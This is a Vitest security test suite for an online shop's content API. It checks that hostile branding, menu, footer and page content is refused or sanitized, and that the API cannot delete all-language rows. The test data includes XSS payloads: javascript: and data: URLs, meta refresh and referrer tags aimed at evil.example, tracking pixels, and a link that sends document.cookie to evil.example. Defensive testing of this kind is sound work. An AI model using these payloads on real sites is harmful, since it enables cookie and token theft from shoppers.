// Content written to attack the shop's customers, through the content API with a token as an outside
// CMS (or whoever holds its token) would send it, on PGlite and PostgreSQL: head tags and pictures that
// would send the address of a password or activation page, token and all, to another host; script and
// data links in the footer and the menu; script links and off-site pictures in a page's HTML. Each is
// refused with 422 naming the field, or stored sanitized. The API deletes no more than the workspace:
// the all-languages row of a block or setting stays, with the workspace's 403 and code. And content
// stored before these rules neither reaches a page as it is nor takes the shop down.
import { mkdtempSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { and, eq } from 'drizzle-orm';
import { afterAll, beforeAll, expect, test, vi } from 'vitest';
import { forEachDatabase } from '../helpers/databases.ts';
import { Browser, prepareDataDir, type ApiResult } from '../helpers/auth-harness.ts';
import { callAdmin } from '../helpers/admin-harness.ts';
import { seedDemoData } from '#lib/server/demo/index.ts';
import { DEMO_FIXTURES, FIXTURE_PRODUCT_ROWS } from '#lib/server/demo/fixtures.ts';
import { LOCALES } from '#lib/i18n/locales.ts';
import type { EntryKey } from '#lib/admin/contract.ts';

/** The one host the operator allows pictures from in this shop. */
const CDN = 'cdn.example.com';
process.env.CONTENT_IMAGE_HOSTS = CDN;
process.env.LOG_LEVEL = 'error';

const MENU: EntryKey = { type: 'block', identifier: 'menu', locale: '' };
const BRANDING: EntryKey = { type: 'setting', identifier: 'branding', locale: '' };
const FOOTER: EntryKey = { type: 'block', identifier: 'footer', locale: 'en' };

/**
 * The shop's modules, loaded afresh for each database: the environment and the connection are read
 * once per process, and each suite is a shop of its own on its own database.
 */
async function loadShop() {
  vi.resetModules();
  return {
    contentRoute: await import('../../src/pages/api/admin/content/[type]/[identifier].ts'),
    signInRoute: await import('../../src/pages/api/admin/sign-in.ts'),
    deleteRoute: await import('../../src/pages/api/admin/entry/delete.ts'),
    dbIndex: await import('#lib/server/db/index.ts'),
    schema: await import('#lib/server/db/schema.ts'),
    content: await import('#lib/server/content.ts'),
    shell: await import('#lib/server/shell.ts'),
    contentHtml: await import('#lib/server/content-html.ts'),
    tokens: await import('#lib/server/admin/tokens.ts'),
    publish: await import('#lib/server/publish/index.ts'),
    background: await import('#lib/server/mail/background.ts'),
  };
}

forEachDatabase('hostile content', (ctx) => {
  let shop: Awaited<ReturnType<typeof loadShop>>;
  let token: string;
  const editor = new Browser('10.44.0.1');

  beforeAll(async () => {
    if (ctx.kind === 'postgres') {
      process.env.DATA_DIR = mkdtempSync(join(tmpdir(), 'storefront-hostile-'));
      process.env.DATABASE_URL = ctx.url;
      await seedDemoData(ctx.db, { products: FIXTURE_PRODUCT_ROWS });
    } else {
      // The embedded database of the shop's own process (the suite's in-memory one is another database).
      await prepareDataDir();
    }
    shop = await loadShop();
    const db = await shop.dbIndex.getDb();
    const [admin] = await db
      .select()
      .from(shop.schema.staffUsers)
      .where(eq(shop.schema.staffUsers.email, DEMO_FIXTURES.staff.admin.email));
    const created = await shop.tokens.createToken(
      db,
      { kind: 'staff', id: admin!.id, email: admin!.email, role: 'admin' },
      { name: 'outside-cms', scopes: ['content:read', 'content:write'] },
    );
    token = created.token;
    const signedIn = await callAdmin(
      shop.signInRoute.POST,
      {
        path: '/api/admin/sign-in',
        body: { email: DEMO_FIXTURES.staff.editor.email, password: DEMO_FIXTURES.password },
      },
      editor,
    );
    expect(signedIn.status, JSON.stringify(signedIn.body)).toBe(200);
  });

  afterAll(async () => {
    await shop.background.backgroundSettled();
    await shop.dbIndex.closeDatabase();
    delete process.env.DATABASE_URL;
  });

  const api = (
    method: 'GET' | 'PUT' | 'DELETE',
    key: EntryKey,
    options: { body?: unknown; ifMatch?: string } = {},
  ): Promise<ApiResult> =>
    callAdmin(shop.contentRoute[method], {
      method,
      path: `/api/admin/content/${key.type}/${key.identifier}${key.locale ? `?locale=${key.locale}` : ''}`,
      params: { type: key.type, identifier: key.identifier },
      body: options.body,
      bearer: token,
      headers: options.ifMatch === undefined ? {} : { 'if-match': options.ifMatch },
    });

  const live = async (key: EntryKey) => {
    const r = await api('GET', key);
    expect(r.status, JSON.stringify(r.body)).toBe(200);
    return {
      config: r.body.config as Record<string, unknown>,
      content: r.body.content as string | null,
      etag: r.headers.get('etag')!,
    };
  };

  type Config = Record<string, unknown>;

  /** A PUT of the live config changed by `change`: refused with 422, naming `path` (of the live config), and nothing changes. */
  async function expectRefused(
    key: EntryKey,
    change: (config: Config) => Config,
    pathOf: string | ((config: Config) => string),
  ): Promise<void> {
    const before = await live(key);
    const path = typeof pathOf === 'string' ? pathOf : pathOf(before.config);
    const r = await api('PUT', key, { body: { config: change(structuredClone(before.config)) }, ifMatch: before.etag });
    expect(r.status, `${path}: ${JSON.stringify(r.body)}`).toBe(422);
    expect(r.body).toMatchObject({ code: 'CONTENT_INVALID', status: 422 });
    expect(r.body.details, JSON.stringify(r.body)).toContainEqual({ path, message: expect.any(String) });
    expect(r.body.message).toContain(path);
    expect(await live(key)).toEqual(before);
  }

  test('a branding with a referrer meta tag is refused, naming the field', async () => {
    for (const content of ['unsafe-url', 'no-referrer-when-downgrade', 'origin']) {
      await expectRefused(
        BRANDING,
        (c) => ({
          ...c,
          meta: [
            { name: 'theme-color', content: '#0a5cad' },
            { name: 'referrer', content },
          ],
        }),
        'config.meta.1.name',
      );
    }
    await expectRefused(
      BRANDING,
      (c) => ({ ...c, meta: [{ name: 'Referrer', content: 'unsafe-url' }] }),
      'config.meta.0.name',
    );
  });

  test('a branding with a refresh (as a meta name or as http-equiv) is refused, naming the field', async () => {
    await expectRefused(
      BRANDING,
      (c) => ({ ...c, meta: [{ name: 'refresh', content: '0;url=https://evil.example/' }] }),
      'config.meta.0.name',
    );
    await expectRefused(
      BRANDING,
      (c) => ({ ...c, meta: [{ 'http-equiv': 'refresh', content: '0;url=https://evil.example/' }] }),
      'config.meta.0',
    );
  });

  test('an off-site favicon, logo or head link is refused; one from the allowed host is taken', async () => {
    await expectRefused(BRANDING, (c) => ({ ...c, favicon: 'https://evil.example/favicon.ico' }), 'config.favicon');
    await expectRefused(BRANDING, (c) => ({ ...c, favicon: '//evil.example/favicon.ico' }), 'config.favicon');
    await expectRefused(BRANDING, (c) => ({ ...c, logo: 'https://evil.example/logo.svg' }), 'config.logo');
    await expectRefused(
      BRANDING,
      (c) => ({ ...c, links: [{ rel: 'icon', href: 'https://evil.example/i.png' }] }),
      'config.links.0.href',
    );
    await expectRefused(BRANDING, (c) => ({ ...c, links: [{ rel: 'preconnect', href: '/x' }] }), 'config.links.0.rel');
    await expectRefused(BRANDING, (c) => ({ ...c, registerUrl: 'javascript:alert(1)' }), 'config.registerUrl');
    await expectRefused(
      BRANDING,
      (c) => ({ ...c, flags: { ...(c.flags as object), contactUsLink: 'javascript:alert(1)' } }),
      'config.flags.contactUsLink',
    );

    const before = await live(BRANDING);
    const allowed = { ...before.config, favicon: `https://${CDN}/favicon.ico` };
    const r = await api('PUT', BRANDING, { body: { config: allowed }, ifMatch: before.etag });
    expect(r.status, JSON.stringify(r.body)).toBe(200);
    expect((await shop.content.getContent('setting:branding', 'de'))!.config.favicon).toBe(
      `https://${CDN}/favicon.ico`,
    );
    const back = await api('PUT', BRANDING, { body: { config: before.config }, ifMatch: r.headers.get('etag')! });
    expect(back.status, JSON.stringify(back.body)).toBe(200);
  });

  test('javascript: and data: social links are refused, naming the field', async () => {
    for (const href of [
      'javascript:alert(document.cookie)',
      'data:text/html,<script>alert(1)</script>',
      'http://insecure.example/profile',
    ]) {
      await expectRefused(
        FOOTER,
        (c) => ({ ...c, social: [...(c.social as object[]), { href, icon: 'x' }] }),
        (c) => `config.social.${(c.social as object[]).length}.href`,
      );
    }
  });

  test('a javascript: menu link is refused, naming the field, also deep in a submenu', async () => {
    const hostile = {
      kind: 'link',
      titles: [{ locale: 'de', title: 'Gewinnspiel' }],
      url: 'javascript:alert(document.cookie)',
      visibility: 'all',
    };
    await expectRefused(
      MENU,
      (c) => ({ ...c, entries: [hostile, ...(c.entries as object[])] }),
      'config.entries.0.url',
    );
    const firstChildren = (c: Config) => (c.entries as { children?: object[] }[])[0]!.children ?? [];
    await expectRefused(
      MENU,
      (c) => {
        (c.entries as { children?: object[] }[])[0]!.children = [
          ...firstChildren(c),
          { ...hostile, url: '//evil.example/login' },
        ];
        return c;
      },
      (c) => `config.entries.0.children.${firstChildren(c).length}.url`,
    );
  });

  test("a content page's script links and off-site pictures are taken out; its text, site links and allowed pictures stay", async () => {
    const page: EntryKey = { type: 'page', identifier: 'hostile-offer', locale: 'en' };
    const html =
      '<p>Win <a href="javascript:fetch(`https://evil.example/?c=`+document.cookie)">a drill</a>, ' +
      '<a href="data:text/html,<script>alert(1)</script>">a saw</a> or <a href="/i/agb">read the terms</a>.</p>' +
      '<img src="https://evil.example/pixel.gif" alt="pixel"><img src="//evil.example/p2.gif" alt="p2">' +
      `<img src="https://${CDN}/drill.jpg" alt="A drill"><img src="/images/products/drill.svg" alt="Our drill">`;
    const r = await api('PUT', page, { body: { config: { title: 'Offer' }, content: html } });
    expect(r.status, JSON.stringify(r.body)).toBe(201);
    const stored = (await live(page)).content!;
    expect(stored).not.toMatch(/javascript|data:|evil\.example|pixel/i);
    expect(stored).toContain('a drill');
    expect(stored).toContain('a saw');
    expect(stored).toContain('<a href="/i/agb">read the terms</a>');
    expect(stored).toContain(`<img src="https://${CDN}/drill.jpg" alt="A drill" />`);
    expect(stored).toContain('<img src="/images/products/drill.svg" alt="Our drill" />');
  });

  test("a page's links by code are stored as codes and shown at the address in each page's language, tagged", async () => {
    const db = await shop.dbIndex.getDb();
    const { categoryTranslations } = shop.schema;
    const slugs = await db
      .select({
        id: categoryTranslations.categoryId,
        locale: categoryTranslations.locale,
        path: categoryTranslations.slugPath,
      })
      .from(categoryTranslations);
    const inLocale = (id: number, locale: string) => slugs.find((s) => s.id === id && s.locale === locale)?.path;
    // A category whose English address differs from its German one, as a German code names it.
    const category = slugs.find(
      (s) => s.locale === 'de' && inLocale(s.id, 'en') !== undefined && inLocale(s.id, 'en') !== s.path,
    )!;
    const html = `<p><a href="c:${category.path}">Tools</a>, <a href="i:agb" target="_blank">terms</a>, <a href="c:no/such">gone</a></p>`;
    for (const locale of ['de', 'en'] as const) {
      const page: EntryKey = { type: 'page', identifier: 'coded-links', locale };
      const r = await api('PUT', page, { body: { config: { title: 'Codes' }, content: html } });
      expect(r.status, JSON.stringify(r.body)).toBe(201);
      const stored = (await live(page)).content!;
      expect(stored).toContain(`<a href="c:${category.path}">Tools</a>`);
      expect(stored).toContain('<a href="i:agb" target="_blank" rel="noopener noreferrer">terms</a>');
      const shown = await shop.contentHtml.shownContentHtml(stored, locale);
      const prefix = locale === 'de' ? '' : '/en';
      expect(shown.html).toContain(`<a href="${prefix}/c/${inLocale(category.id, locale)}">Tools</a>`);
      expect(shown.html).toContain(`<a href="${locale === 'de' ? '/i/agb' : '/en/i/terms'}" target="_blank"`);
      // A category that does not exist leads home rather than to a dead address.
      expect(shown.html).toContain(`<a href="${locale === 'de' ? '/' : '/en'}">gone</a>`);
      expect(shown.tags).toEqual([shop.publish.tags.category(category.id)]);
    }
  });

  test("DELETE of the menu's or the branding's row for all languages gets the workspace's 403 and code; the menu still renders", async () => {
    const menuVersion = Number((await live(MENU)).etag.replaceAll('"', ''));
    const workspace = await callAdmin(
      shop.deleteRoute.POST,
      { path: '/api/admin/entry/delete', body: { ...MENU, current: menuVersion } },
      editor,
    );
    expect(workspace.status).toBe(403);
    for (const key of [MENU, BRANDING]) {
      const { etag } = await live(key);
      for (const ifMatch of [etag, '*', undefined]) {
        const r = await api('DELETE', key, { ifMatch });
        expect({ status: r.status, code: r.body.code }, `${key.identifier} If-Match ${ifMatch}`).toEqual({
          status: workspace.status,
          code: workspace.body.code,
        });
        expect(r.body).toMatchObject({ status: 403, message: expect.any(String) });
      }
      expect((await live(key)).etag).toBe(etag);
    }
    for (const locale of LOCALES) {
      expect((await shop.content.getContent('block:menu', locale))!.config.entries.length, locale).toBeGreaterThan(0);
      expect((await shop.shell.loadShell(locale)).menu.length, locale).toBeGreaterThan(0);
    }
    // A language's own row is the API's to delete, as it is the workspace's.
    const own = await live(FOOTER);
    expect((await api('DELETE', FOOTER, { ifMatch: own.etag })).status).toBe(200);
  });

  test('content stored before the rules is shown without what breaks them, and a publish event naming it is refused', async () => {
    const db = await shop.dbIndex.getDb();
    const { contentBlocks } = shop.schema;
    const row = (key: EntryKey) =>
      and(
        eq(contentBlocks.type, key.type),
        eq(contentBlocks.identifier, key.identifier),
        eq(contentBlocks.locale, key.locale),
      );
    const [branding] = await db.select().from(contentBlocks).where(row(BRANDING));
    const [menu] = await db.select().from(contentBlocks).where(row(MENU));
    const footerDe: EntryKey = { ...FOOTER, locale: 'de' };
    const [footer] = await db.select().from(contentBlocks).where(row(footerDe));
    const brandingConfig = branding!.config as Record<string, unknown>;
    const menuConfig = menu!.config as { entries: object[] };
    const footerConfig = footer!.config as { social: object[] };
    // As an older version, or SQL, left them.
    await db
      .update(contentBlocks)
      .set({
        config: {
          ...brandingConfig,
          favicon: 'https://evil.example/favicon.ico',
          meta: [
            { name: 'referrer', content: 'unsafe-url' },
            { name: 'theme-color', content: '#0a5cad' },
          ],
          links: [{ rel: 'preconnect', href: 'https://evil.example' }],
        },
      })
      .where(row(BRANDING));
    await db
      .update(contentBlocks)
      .set({
        config: {
          entries: [
            {
              kind: 'link',
              titles: [{ locale: 'de', title: 'Gewinnspiel' }],
              url: 'javascript:alert(1)',
              visibility: 'all',
            },
            ...menuConfig.entries,
          ],
        },
      })
      .where(row(MENU));
    await db
      .update(contentBlocks)
      .set({
        config: { ...footerConfig, social: [{ href: 'javascript:alert(1)', icon: 'x' }, ...footerConfig.social] },
      })
      .where(row(footerDe));
    await shop.publish.publishAndPurge(
      {
        content: [
          { type: 'setting', identifier: 'branding' },
          { type: 'block', identifier: 'menu' },
          { type: 'block', identifier: 'footer' },
        ],
      },
      { source: 'webhook' },
    );

    const shown = await shop.shell.loadShell('de');
    expect(shown.branding.meta).toEqual([{ name: 'theme-color', content: '#0a5cad' }]);
    expect(shown.branding.favicon).toBe('/brand/favicon.svg');
    expect(shown.branding.links).toEqual([]);
    expect(shown.branding.title).toBe(brandingConfig.title);
    expect(shown.menu.map((m) => m.title)).not.toContain('Gewinnspiel');
    expect(shown.menu.length).toBe(menuConfig.entries.length);
    expect(shown.footer!.social.map((s) => s.href)).toEqual(
      footerConfig.social.map((s) => (s as { href: string }).href),
    );

    const problems = await shop.content.contentProblems(
      [
        { type: 'setting', identifier: 'branding' },
        { type: 'block', identifier: 'menu' },
      ],
      ['de'],
    );
    expect(problems.join('\n')).toMatch(/favicon/);
    expect(problems.join('\n')).toMatch(/meta\.0\.name/);
    expect(problems.join('\n')).toMatch(/entries\.0\.url/);
  });
});
